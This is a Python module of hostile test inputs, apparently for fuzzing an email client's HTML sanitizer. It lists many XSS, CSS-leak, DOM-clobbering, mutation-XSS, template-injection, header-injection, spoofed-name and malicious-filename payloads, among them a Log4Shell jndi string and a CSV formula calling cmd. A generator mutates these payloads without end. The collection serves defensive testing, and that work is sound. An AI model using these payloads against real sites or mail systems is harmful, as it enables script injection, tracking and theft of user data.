"""Markup, names and files that were made to run, load, pretend or break out: one a line, for hostile letters.

`PWN` stands for what would run, `HOST` for a server of the attacker's that nobody may ask.
"""

import random
import re
from collections.abc import Iterator

SCRIPTS = r'''
<script>PWN</script>
<SCRIPT SRC=http://HOST/x.js></SCRIPT>
<script/x>PWN</script
<scr<script>ipt>PWN</scr</script>ipt>
<script type=module>import "http://HOST/m.js"</script>
<script type=speculationrules>{"prefetch":[{"urls":["http://HOST/spec"]}]}</script>
<img src=x onerror=PWN>
<img src=x:x onerror="PWN" onload='PWN'>
<img/src/onerror=PWN>
<IMG """><SCRIPT>PWN</SCRIPT>">
<img src="x` `<script>PWN</script>"` `>
<img src=x onerror&#61;PWN>
<svg onload=PWN>
<svg/onload=PWN>
<svg><script>PWN</script></svg>
<svg><script href="http://HOST/s.js" /></svg>
<svg><animate onbegin=PWN attributeName=x dur=1s>
<svg><a xlink:href="javascript:PWN"><text y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,&lt;svg id=x onload=PWN xmlns=http://www.w3.org/2000/svg/&gt;#x"/></svg>
<svg><set attributeName=href to=javascript:PWN /></svg>
<svg><foreignObject><iframe srcdoc="<script>PWN</script>"></iframe></foreignObject></svg>
<math><maction actiontype="statusline#http://HOST" xlink:href="javascript:PWN">click</maction></math>
<math href="javascript:PWN">click</math>
<body onload=PWN onpageshow=PWN onfocus=PWN>
<body background="http://HOST/body.png">
<input autofocus onfocus=PWN>
<select autofocus onfocus=PWN><option>1</select>
<textarea autofocus onfocus=PWN></textarea>
<details open ontoggle=PWN>text</details>
<video autoplay onplay=PWN onerror=PWN src=http://HOST/v.mp4 poster=http://HOST/poster.png></video>
<audio src=http://HOST/a.mp3 autoplay onerror=PWN></audio>
<video><source src=http://HOST/s.mp4 onerror=PWN><track src=http://HOST/t.vtt></video>
<marquee onstart=PWN>text</marquee>
<div onpointerenter=PWN onanimationstart=PWN style="animation:x 1s">text</div>
<div contenteditable onbeforeinput=PWN onfocus=PWN tabindex=0 autofocus>text</div>
<object data="javascript:PWN"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type=text/html data=http://HOST/o.html></object>
<embed src="http://HOST/e.swf" allowscriptaccess=always>
<embed src="javascript:PWN">
<applet code=x archive=http://HOST/x.jar></applet>
<iframe src="javascript:PWN"></iframe>
<iframe src=http://HOST/frame.html></iframe>
<iframe srcdoc="&lt;script&gt;PWN&lt;/script&gt;"></iframe>
<iframe srcdoc="<img src=http://HOST/srcdoc.png>"></iframe>
<frameset onload=PWN><frame src=http://HOST/f.html></frameset>
<portal src=http://HOST/portal.html></portal>
<fencedframe src=http://HOST/ff.html></fencedframe>
<a href="javascript:PWN">click</a>
<a href=" &#14; javascript:PWN">click</a>
<a href="java&#10;script:PWN">click</a>
<a href="java&Tab;script&colon;PWN">click</a>
<a href="JaVaScRiPt&#58;PWN">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="data:text/html,<script>PWN</script>">click</a>
<a href="blob:http://HOST/1">click</a>
<a href="file:///etc/passwd">click</a>
<a href="view-source:http://HOST/">click</a>
<a href="intent://HOST/#Intent;scheme=http;end">click</a>
<a href="ms-msdt:/id PCWDiagnostic">click</a>
<a href="//HOST/protocol">click</a>
<a href="/sign-out/" target=_top>click</a>
<a href="http://HOST/ping-target" ping="http://HOST/ping">click</a>
<a href="http://HOST/opener" rel=opener target=_top>click</a>
<a href="http://HOST/d" download=run.exe>click</a>
<a href="mailto:x@HOST?body=<script>PWN</script>&attach=/etc/passwd">write</a>
<a href="http://HOST/&quot;&gt;&lt;script&gt;PWN&lt;/script&gt;">click</a>
<map name=m><area shape=default href="javascript:PWN"></map><img usemap=#m src=x>
'''

LOADS = r"""
<img src="http://HOST/pixel.png?reader=1" width=1 height=1>
<img src="http://HOST/vector.svg">
<img src="http://HOST/page.html">
<img src="http://HOST/lies.png" alt="<script>PWN</script>">
<img src="http://HOST/elsewhere">
<img src="http://HOST:1/closed.png">
<img src="https://HOST/secure.png">
<img src="http://user:password@HOST/with-name.png">
<img src="//HOST/protocol.png">
<img src="\\HOST\share\unc.png">
<img src="/files/" alt=own><img src="/sign-out/">
<img src="ftp://HOST/x.png"><img src="ws://HOST/">
<img srcset="http://HOST/1x.png 1x, http://HOST/2x.png 2x">
<img src=x srcset="http://HOST/set.png" sizes=100vw lowsrc=http://HOST/low.png dynsrc=http://HOST/dyn.png>
<picture><source srcset="http://HOST/source.webp" type=image/webp><img src="http://HOST/fallback.png"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='PWN'/>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>PWN</script>">
<img src="data:image/png;base64,iVBORw0KGgo=" onload=PWN>
<img longdesc="http://HOST/long" src=cid:picture>
<image src="http://HOST/image-tag.png">
<input type=image src="http://HOST/input.png" onerror=PWN>
<table background="http://HOST/table.png"><tr background="http://HOST/tr.png"><td background=http://HOST/td.png>x
<div style="background:url(http://HOST/bg.png)">x</div>
<div style="background-image:u\72l(http://HOST/escaped.png)">x</div>
<div style="background:url('//HOST/bg2.png')">x</div>
<div style="background-image:image-set('http://HOST/set.png' 1x)">x</div>
<div style="background-image:cross-fade(url(http://HOST/a.png),url(http://HOST/b.png),50%)">x</div>
<div style="list-style:url(http://HOST/list.png)">x</div>
<div style="content:url(http://HOST/content.png)">x</div>
<div style="cursor:url(http://HOST/cursor.cur),auto">x</div>
<div style="border-image:url(http://HOST/border.png) 30">x</div>
<div style="mask:url(http://HOST/mask.svg#m);-webkit-mask-image:url(http://HOST/mask2.png)">x</div>
<div style="filter:url(http://HOST/filter.svg#f)">x</div>
<div style="clip-path:url(http://HOST/clip.svg#c);shape-outside:url(http://HOST/shape.png)">x</div>
<div style="--x:url(http://HOST/var.png);background:var(--x)">x</div>
<div style="width:expression(PWN);behavior:url(http://HOST/b.htc);-moz-binding:url(http://HOST/b.xml#x)">x</div>
<div style="font-family:'a';src:url(http://HOST/inline.woff)">x</div>
<div style="background:/*url(*/url(http://HOST/comment.png)/*)*/">x</div>
<div style="color:red;}</style><script>PWN</script>">x</div>
<div style='x:"</div><img src=http://HOST/quote.png>'>x</div>
<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;opacity:.01"><a href=http://HOST/over>x</a></div>
<style>@import url(http://HOST/import.css);@import "//HOST/import2.css";</style>
<style>@font-face{font-family:x;src:url(http://HOST/font.woff)}body{font-family:x}</style>
<style>body{background:url(http://HOST/style.png)}input[value^=a]{background:url(http://HOST/leak)}</style>
<style>@namespace url(http://HOST/ns);*{cursor:url(http://HOST/c.cur)}</style>
<style></style><img src=x onerror=PWN></style>
<link rel=stylesheet href=http://HOST/link.css>
<link rel=prefetch href=http://HOST/prefetch><link rel=preload as=image href=http://HOST/preload.png>
<link rel=dns-prefetch href=//HOST/><link rel=preconnect href=http://HOST/>
<link rel=prerender href=http://HOST/prerender><link rel=modulepreload href=http://HOST/mp.js>
<link rel=icon href=http://HOST/icon.ico><link rel=manifest href=http://HOST/manifest.json>
<link rel=import href=http://HOST/import.html><link rel=alternate type=text/css href=http://HOST/alt.css>
<meta http-equiv=refresh content="0;url=http://HOST/refresh">
<meta http-equiv=refresh content="0;url=javascript:PWN">
<meta http-equiv=Content-Security-Policy content="report-uri http://HOST/report">
<meta http-equiv=set-cookie content="sessionid=x"><meta name=referrer content=unsafe-url>
<meta charset=utf-7>+ADw-script+AD4-PWN+ADw-/script+AD4-
<base href=http://HOST/><img src=relative.png><a href=relative>click</a>
<base target=_top><a href=http://HOST/top>click</a>
<form action=http://HOST/form method=post><input name=password value=x><button autofocus>Sign in</button></form>
<form id=f></form><button form=f formaction="javascript:PWN">Go</button><input type=submit formaction=http://HOST/fa>
<isindex action=http://HOST/isindex type=submit>
<bgsound src=http://HOST/bg.mp3><layer src=http://HOST/layer.html></layer><ilayer src=http://HOST/il.html>
<noscript><img src=http://HOST/noscript.png></noscript>
<noscript><p title="</noscript><img src=x onerror=PWN>">
<xml id=x src=http://HOST/x.xml></xml><?xml-stylesheet href="http://HOST/x.xsl"?>
<!--[if gte mso 9]><img src=http://HOST/mso.png><v:fill src=http://HOST/vml.png /><![endif]-->
<!--><img src=http://HOST/comment.png>--><!--!><script>PWN</script>-->
<![CDATA[<img src=http://HOST/cdata.png>]]>
<v:image xmlns:v="urn:schemas-microsoft-com:vml" src="http://HOST/vml2.png" style="behavior:url(#default#VML)"/>
<svg><image href="http://HOST/svg-image.png" xlink:href="http://HOST/svg-image2.png"/></svg>
<svg><style>@import "http://HOST/svg.css";</style><feImage href="http://HOST/fe.png"/></svg>
<svg><text fill="url(http://HOST/paint.svg#p)">x</text></svg>
<img src="cid:picture"><img src="cid:../../x"><img src="CID:picture%22onerror=PWN">
<img src="cid:nobody@nowhere&quot; onerror=PWN x=&quot;"><img src="mid:1@x/picture">
<img data-remote=0 src=x><img data-remote="0&quot; onerror=&quot;PWN"><img data-remote=999>
<audio controls><source src=cid:picture></audio><video src=cid:picture></video>
"""

CLOBBERS = r"""
<form id=composer><input name=kind><input name=text><input name=client_key></form>
<img name=everydesk><img name=everydesk id=live><a id=everydesk name=showLetter href=x:x></a>
<form name=body><input name=dataset><input name=appendChild></form>
<img name=cookie><img name=getElementById><img name=querySelector><form name=location></form>
<a id=timeline></a><div id=conversations></div><div id=thread></div><div id=context></div><div id=dialog></div>
<iframe name=__proto__ srcdoc="<a id=polluted></a>"></iframe><a id=__proto__ name=isAdmin></a>
<input name=csrfmiddlewaretoken value=x><input name=constructor><input name=prototype>
<div hx-get=http://HOST/hx hx-trigger=load>x</div><div data-hx-get=http://HOST/data-hx data-hx-trigger="load">x</div>
<div hx-on::load="PWN" hx-on:click=PWN hx-vals='js:{x:PWN}' hx-ext=x>x</div>
<div hx-swap-oob=true id=thread>x</div><li id=message-1 class="msg in" data-number=1>forged</li>
<div id=viewers-1></div><template id=pending-reply><script>PWN</script></template>
<div class="banner danger modal open" role=alert data-error>Your session has ended, sign in again</div>
<a class=conv id=conversation-1 data-conversation=1 href=http://HOST/conv>row</a>
<button data-picker=files data-retry=again data-key=e data-needs=reply popovertarget=dialog>x</button>
<dialog open id=dialog><form method=dialog><button>ok</button></form></dialog>
<div is=x-element slot=y part=z itemscope itemid=http://HOST/item accesskey=e tabindex=1 autofocus>x</div>
<label for=letter-cc>x</label><output for=letter-subject></output><meter form=composer></meter>
{{7*7}}{% load x %}{% csrf_token %}${7*7}<%= 7*7 %>#{7*7}[[7*7]]%(x)s{0.__class__}
</div></details></li></ol></main></body></html><script>PWN</script><plaintext>
</textarea></title></style></noscript></template></select></iframe></xmp><img src=x onerror=PWN>
]]></p><p>--></p>--!><img src=x onerror=PWN>
"""

MUTATIONS = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=PWN&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=PWN src>">
<svg></p><style><a id="</style><img src=x onerror=PWN>">
<svg><style><img src="</style><img src=x onerror=PWN//">
<svg><p><style><g title="</style><img src=x onerror=PWN>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=PWN></style></annotation-xml></math>
<svg><desc><table><style><!--</style><a title="--&gt;&lt;img/src/onerror=PWN&gt;">
<noembed><img title="</noembed><img src=x onerror=PWN>"></noembed>
<noframes><p title="</noframes><svg onload=PWN>"></noframes>
<xmp><p title="</xmp><svg/onload=PWN>"></xmp>
<textarea><p title="</textarea><svg/onload=PWN>"></textarea>
<title><p title="</title><svg/onload=PWN>"></title>
<iframe><p title="</iframe><svg/onload=PWN>"></iframe>
<select><template><p title="</template></select><img src=x onerror=PWN>"></template></select>
<table><td><form><tr></form><script>PWN</script></td></table>
<a><table><td></a><p></table><a><img src=x onerror=PWN>
<b><p><table><b><i></p></table></i><svg><title><b onclick=PWN></svg>
<template><s><template><s><img src=x onerror=PWN>X</s></template></s></template>
<svg><foreignobject><p><svg><![CDATA[</svg><img src=x onerror=PWN>]]>
<div title="`><img src=x onerror=PWN>">``onmouseover=PWN</div>
<p id="</p><img src=x onerror=PWN>" title='"><img src=x onerror=PWN>'>
<img alt="&lt;img src=x onerror=PWN&gt;" title="&amp;lt;img src=x onerror=PWN&amp;gt;">
&lt;img src=x onerror=PWN&gt; &amp;lt;script&amp;gt;PWN&amp;lt;/script&amp;gt; &#60;svg onload=PWN&#62;
＜script＞PWN＜/script＞ <ſcript>PWN</ſcript> <ıframe src=http://HOST/i> <K-tag onclick=PWN>
<font face="a','b</style><img src=x onerror=PWN>" color="red;background:url(http://HOST/font.png)">x</font>
"""

NAMES = r"""
"'><img src=x onerror=PWN>{{7*7}}
</textarea><script>PWN</script>${7}
<svg/onload=PWN>
javascript:PWN//
" autofocus onfocus=PWN x="
' onmouseover=PWN x='
`${PWN}`
</title></select><iframe src=http://HOST/name.html>
<b>Administrator</b> <service@shop.example>
Аdministrator of Everydesk
Раураl Ѕеrvісе
客服\ufeff \u200b系统
\u202eevil\u202c \u2066gnp.exe\u2069
Zoe\r\nBcc: victim@HOST
Zoe%0d%0aBcc:victim@HOST
=?utf-8?Q?Zoe=0D=0ABcc:_victim@HOST?=
Zoe  Bcc: victim@HOST
__proto__
constructor
%(who)s %(at)s {who} {0}
{% csrf_token %}{{ request.staff }}
null
a,b;c<d>@e "f"
😀🏴󠁧󠁢󠁥󠁮󠁧󠁿Z̸͔̈ä̷́l̵gö
../../etc/passwd
=HYPERLINK("http://HOST/csv","x")
@SUM(1+1)*cmd|' /C calc'!A0
<!--
]]>
<script src=//HOST/s></script>
"""

SENDERS = r"""
a"><img/src/onerror=PWN>
"<script>PWN</script>"
"a b\r\nBcc: victim"
x'--
__proto__
${jndi:ldap://HOST/a}
a&b=c
javascript:PWN
用户
%22onfocus=PWN
"""

FILE_NAMES = r"""
"><img src=x onerror=PWN>.png
../../../etc/passwd
..\..\windows\run.bat
picture.svg
page.html
page.pht
invoice.pdf.exe
cv\u202efdp.exe
a.png\r\nX-Injected: yes
a;filename=evil.html
CON
%00.html
.htaccess
x.png.svg
'; alert(1);.xml
"""


def lines(text: str) -> list[str]:
    """Return the lines, with what cannot be seen in a source put in."""
    text = re.sub(r"\\u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), text)
    return [line.replace(r"\r\n", "\r\n") for line in text.split("\n") if line]


BODIES = [*lines(SCRIPTS), *lines(LOADS), *lines(CLOBBERS), *lines(MUTATIONS)]


def mutated(source: random.Random) -> Iterator[str]:
    """Yield endless variations of the markup: nested in what is parsed by other rules, and written oddly."""
    outside = [
        *("<math><mtext>", "<svg><desc>", "<svg><style>", "<noscript>", "<table><caption>"),
        *("<select><option>", "<template>", "<form><p>", "<b><i><u>", "<!--", "<![CDATA["),
        *("<xmp>", '<p title="', "<a href='x", "<style>", "<textarea>", "<title>", "<dl><dt>"),
        *("<math><annotation-xml encoding=text/html>", "<ruby><rt>", "<button>", "<object><param>"),
    ]
    changes = [
        lambda text: text.replace(" ", source.choice(["/", "\t", "\f", "\n", "\x00", "　"])),
        lambda text: "".join(source.choice([one.lower(), one.upper()]) for one in text),
        lambda text: text.replace("<", source.choice(["<\x00", "<<", "< ", "</x><", "<!x><"]), 1),
        lambda text: text.replace(">", source.choice(["", " /", "/>", "\n>", '">']), 1),
        lambda text: text.replace('"', source.choice(["'", "`", "&quot;", ""])),
        lambda text: text.replace("o", "&#111;").replace("j", "&#x6a"),
        lambda text: text.replace("script", "scr\x00ipt"),
        lambda text: text[: source.randrange(len(text) // 2, len(text))],
        lambda text: f"<p x={'y' * 200_000}>{text}" if source.random() < 0.05 else text,
        lambda text: f"<div {' '.join(f'a{at}=1' for at in range(100))} onload=PWN>{text}",
    ]
    while True:
        inside = source.choice(BODIES)
        for change in source.sample(changes, 2):
            inside = change(inside)
        wrapped = "".join(source.sample(outside, source.randint(1, 3))) + inside
        yield wrapped + source.choice(["", "</style>", "-->", "</svg>", source.choice(BODIES)])
